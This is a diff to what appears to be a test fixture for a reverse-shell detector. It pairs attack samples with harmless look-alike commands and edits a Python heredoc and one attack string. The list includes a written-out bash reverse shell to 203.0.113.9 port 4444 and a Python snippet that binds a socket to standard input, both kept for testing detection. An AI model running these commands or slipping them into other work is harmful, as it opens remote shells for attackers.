@@ -26,15 +26,16 @@ END
 PROOFS = [
     Proof("Reverse shell", attack=REVERSE_SHELL, look_alike="echo id | sh; sh </dev/null"),
 
-    Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike="""python3 -c '
+    Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike="""python3 - <<'END'
 import os, socket
 server = socket.create_server(("203.0.113.9", 7000))
 client = socket.create_connection(("203.0.113.9", 7000))
 accepted, _ = server.accept()
-os.dup2(accepted.fileno(), 0)'
+os.dup2(accepted.fileno(), 0)
+END
 """),
 
-    Proof("Reverse shell command", attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+    Proof("Reverse shell command", attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || true",
           look_alike="python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 7001))'"),
 
     Proof("Server program started a shell", attack=POSTGRES, look_alike="sh -c 'nginx -t'"),
